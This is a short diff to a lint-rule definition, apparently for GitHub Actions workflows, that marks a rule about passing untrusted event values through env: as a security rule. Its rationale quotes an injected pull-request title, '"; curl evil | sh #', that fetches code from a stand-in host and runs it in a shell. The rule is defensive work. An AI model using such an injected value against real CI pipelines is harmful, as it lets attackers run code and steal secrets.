@@ -16,6 +16,7 @@ META = RuleMeta(
     title="Untrusted event values go through env:, not inline in run:",
     severity=Severity.ERROR,
     level=Level.BRONZE,
+    security=True,
     rationale=(
         "`${{ }}` is expanded before the shell runs, so a pull request title such as "
         "`\"; curl evil | sh #` becomes part of your script. Pass the value through `env:` and quote it."
